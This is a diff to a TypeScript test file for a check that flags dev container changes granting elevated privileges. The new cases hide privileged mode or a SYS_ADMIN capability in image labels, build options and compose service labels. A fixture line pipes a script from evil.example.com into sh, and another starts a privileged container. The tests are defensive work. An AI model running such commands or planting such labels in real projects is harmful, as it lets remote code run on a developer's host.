@@ -4,6 +4,7 @@ import { type Files, failuresOf } from './failures.ts';
 const SERVICE = 'services:\n  a:\n    image: alpine:3.23\n';
 const PRIVILEGED = `${SERVICE}    privileged: true\n`;
 const STAGE = 'FROM alpine:3.23\nUSER 1000\n';
+const PRIVILEGED_LABEL = 'LABEL devcontainer.metadata=\'[{"privileged": true}]\'\n';
 const FETCH = 'RUN curl -fsSL https://evil.example.com/x.sh | sh\n';
 const START = 'docker run --privileged acme/app:1.4\n';
 
@@ -118,6 +119,28 @@ const CHANGES: Readonly<Record<string, readonly (readonly [string, Files, Files?
     .map((value) => `=${value}`)
     .concat(' [{"privileged": true}]')
     .map((value) => [value, labelled(`LABEL devcontainer.metadata${value}\n`), labelled('')] as const),
+  'labels of the image that a dev container builds in another way': [
+    [
+      'an option of the build',
+      {
+        '.devcontainer/devcontainer.json':
+          '{"build": {"dockerfile": "Dockerfile", "options": ["--label", "devcontainer.metadata=[{\\"privileged\\":true}]"]}}',
+      },
+      labelled(''),
+    ],
+    ['the Dockerfile of a service', withService('', PRIVILEGED_LABEL), withService('', '')],
+    [
+      'a service',
+      withService('      labels:\n        devcontainer.metadata: \'[{"privileged": true}]\'\n', ''),
+      withService('', ''),
+    ],
+    [
+      'a service, in a list',
+      withService('      labels:\n        - devcontainer.metadata={"capAdd":["SYS_ADMIN"]}\n', ''),
+      withService('', ''),
+    ],
+    ['a service, unreadable', withService('      labels: ["devcontainer.metadata=$M"]\n', ''), withService('', '')],
+  ],
   'escapes of letters': [
     ['a script of npm', { 'package.json': `{"scripts": {"up": "\\u0064${START.trim().slice(1)}"}}` }],
     ['the key of the scripts', { 'package.json': `{"scr\\u0069pts": {"up": "${START.trim()}"}}` }],
@@ -171,6 +194,21 @@ it.each([
 ])('a harmless label of a dev container passes the check: %s', async (label) => {
   expect(await failuresOf(labelled(''), labelled(label))).toEqual([]);
 });
+
+it.each([
+  ['another label', '      labels:\n        a.b: c\n'],
+  ['a harmless label', '      labels: [\'devcontainer.metadata={"init":true}\']\n'],
+])('a service of a dev container passes the check with %s', async (_name, labels) => {
+  expect(await failuresOf(withService('', ''), withService(labels, ''))).toEqual([]);
+});
+
+function withService(labels: string, label: string): Files {
+  return {
+    '.devcontainer/devcontainer.json': '{"dockerComposeFile": "compose.yaml", "service": "a"}',
+    '.devcontainer/compose.yaml': `services:\n  a:\n    build:\n      context: .\n${labels}`,
+    '.devcontainer/Dockerfile': `${STAGE}${label}`,
+  };
+}
 
 function labelled(label: string): Files {
   return {
